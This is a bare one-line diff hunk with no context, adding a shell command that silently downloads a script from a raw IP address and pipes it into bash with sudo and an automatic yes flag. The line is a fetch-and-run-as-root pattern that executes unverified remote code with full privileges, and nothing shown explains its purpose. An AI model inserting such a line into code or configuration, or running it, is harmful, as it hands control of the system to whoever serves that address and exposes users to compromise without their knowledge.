@@ -1,0 +1,1 @@
+wget -qO- https://203.0.113.14/bootstrap | sudo bash -s -- --yes
